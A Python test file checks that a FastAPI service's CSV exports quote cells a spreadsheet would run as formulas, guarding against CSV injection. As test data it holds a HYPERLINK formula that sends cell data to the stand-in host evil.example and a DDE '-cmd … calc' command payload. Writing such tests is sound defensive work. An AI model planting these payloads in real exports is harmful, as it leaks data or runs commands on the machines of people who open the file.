"""Exports a spreadsheet opens: no cell may run as a formula (OWASP CSV injection), through every export."""

import csv
import io

from fastapi.testclient import TestClient

from service.container import Services
from service.csv_export import csv_text, spreadsheet_safe
from service.keys import create_key
from tests.builders import SUPPLIERS

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Låsløs AS")'


def test_cells_a_spreadsheet_would_evaluate_are_quoted() -> None:
    for hostile in ("=1+1", "+47 55 55", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HOSTILE_NAME):
        assert spreadsheet_safe(hostile) == "'" + hostile
    for plain in ("Låsløs AS", "0.4213", "-0.0312", "+1.5e-3", "", None, "a=b", '{"x": 1}'):
        assert spreadsheet_safe(plain) == ("" if plain is None else plain)


def test_the_writer_quotes_every_cell_and_keeps_csv_structure() -> None:
    text = csv_text([{"name": HOSTILE_NAME, "score": "-0.0312", "why": "a, b\n=c"}], ["name", "score", "why"])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "score", "why"], ["'" + HOSTILE_NAME, "-0.0312", "a, b\n=c"]]


def test_invitation_list_and_audit_export_neutralise_names_and_labels(client: TestClient, services: Services) -> None:
    hostile = {**SUPPLIERS[0], "id": "NO-EVIL-1", "name": HOSTILE_NAME}
    assert client.post("/suppliers", json=hostile).status_code == 201
    plaintext, _row = create_key(services.engine, "adviser", label="-cmd|' /C calc'!A0")
    evil_adviser = {"Authorization": f"Bearer {plaintext}"}
    marked = client.post("/needs/need-1/feedback", json={"supplier_id": "NO-EVIL-1", "mark": "invited"}, headers=evil_adviser)
    assert marked.status_code == 201
    exported = client.get("/needs/need-1/invitations.csv")
    row = next(r for r in csv.DictReader(io.StringIO(exported.text)) if r["id"] == "NO-EVIL-1")
    assert row["name"] == "'" + HOSTILE_NAME
    assert row["marked_by"].startswith("'-cmd")
    assert not row["score"].startswith("'") and float(row["score"]) > 0  # a score stays a plain number
    audit = list(csv.DictReader(io.StringIO(client.get("/needs/need-1/audit.csv").text)))
    assert audit and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in audit for cell in r.values())
    assert any(r["actor"].startswith("'-cmd") for r in audit)
